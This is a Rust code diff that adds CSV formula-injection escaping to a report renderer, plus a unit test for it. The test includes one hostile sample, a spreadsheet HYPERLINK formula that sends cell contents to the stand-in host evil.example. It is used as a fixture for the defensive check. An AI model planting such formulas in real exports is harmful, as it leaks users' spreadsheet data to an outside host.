@@ -4,6 +4,17 @@ use super::compare::CompareReport;
 use super::versus::VersusReport;
 use super::{RenderOptions, Report};
 
+/// A text cell that a spreadsheet will not run: a cell starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return gets a leading `'` (OWASP's advice against CSV
+/// formula injection). Numbers are written by [`number`] and are not touched.
+pub fn text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
 fn number(n: Option<f64>) -> String {
     n.map(|n| format!("{n}")).unwrap_or_default()
 }
@@ -42,9 +53,9 @@ pub fn render(report: &Report, _options: &RenderOptions) -> String {
             let changed_by: Vec<&str> = s.deltas.iter().map(|d| d.rule.as_str()).collect();
             let _ = writer.write_record([
                 p.pattern.as_str(),
-                &p.name,
+                &text(&p.name),
                 &c.id,
-                &c.name,
+                &text(&c.name),
                 &s.base.to_string(),
                 &s.rating.to_string(),
                 &changed_by.join(" "),
@@ -71,9 +82,9 @@ pub fn render_compare(report: &CompareReport, _options: &RenderOptions) -> Strin
             let Some(c) = row.cells.iter().find(|c| c.pattern == p.id) else { continue };
             let _ = writer.write_record([
                 p.id.as_str(),
-                &p.name,
+                &text(&p.name),
                 &row.id,
-                &row.name,
+                &text(&row.name),
                 &c.base.to_string(),
                 &c.rating.to_string(),
                 &c.changed_by.join(" "),
@@ -82,8 +93,8 @@ pub fn render_compare(report: &CompareReport, _options: &RenderOptions) -> Strin
                 &number(p.score),
                 &p.excluded.to_string(),
                 &excluded_because.join(" "),
-                &c.reason,
-                &c.source,
+                &text(&c.reason),
+                &text(&c.source),
             ]);
         }
     }
@@ -111,14 +122,14 @@ pub fn render_cost(report: &super::CostOnlyReport, _options: &RenderOptions) -> 
         let _ = writer.write_record([
             line.pattern.as_str(),
             &to_text(serde_json::to_value(line.item).unwrap_or_default()),
-            &line.description,
+            &text(&line.description),
             &line.quantity.to_string(),
             &to_text(serde_json::to_value(line.unit).unwrap_or_default()),
             &line.unit_usd.to_string(),
             &line.hours.to_string(),
             &format!("{:.2}", line.monthly_usd),
-            &line.as_of,
-            &line.source,
+            &text(&line.as_of),
+            &text(&line.source),
             &line.confidence.map(|c| to_text(serde_json::to_value(c).unwrap_or_default())).unwrap_or_default(),
         ]);
     }
@@ -161,4 +172,17 @@ pub fn render_versus(versus: &VersusReport, _options: &RenderOptions) -> String 
         }
     }
     finish(writer)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::text;
+
+    #[test]
+    fn formula_leading_cells_are_neutralised() {
+        for hostile in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(text(hostile).starts_with('\''), "{hostile}");
+        }
+        assert_eq!(text("ECS on EC2"), "ECS on EC2");
+    }
 }
